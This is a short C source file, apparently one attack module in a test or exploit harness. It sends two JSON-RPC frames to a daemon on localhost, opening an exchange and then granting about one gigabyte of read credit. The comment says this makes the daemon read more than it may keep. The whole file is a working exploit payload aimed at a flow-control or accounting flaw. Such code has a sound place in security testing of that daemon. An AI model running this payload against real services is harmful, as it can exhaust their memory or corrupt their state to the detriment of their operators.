// Says that it has used more of a response than there was, so that the daemon reads more than it may keep.
#include "skill.h"

static const char *attack(const struct targets *to) {
    static struct frames frames;
    char text[256];
    snprintf(text, sizeof text,
        "{\"jsonrpc\":\"2.0\",\"method\":\"exchange/open\",\"params\":{\"exchange\":1,\"secure\":false,\"host\":\"127.0.0.1\","
        "\"port\":%d,\"method\":\"GET\",\"target\":\"/\",\"headers\":[],\"length\":\"none\"}}", to->port);
    add_frame(&frames, text);
    add_frame(&frames, "{\"jsonrpc\":\"2.0\",\"method\":\"exchange/credit\",\"params\":{\"exchange\":1,\"bytes\":1073741824}}");
    send_frames(&frames);
    return wait_for_end();
}
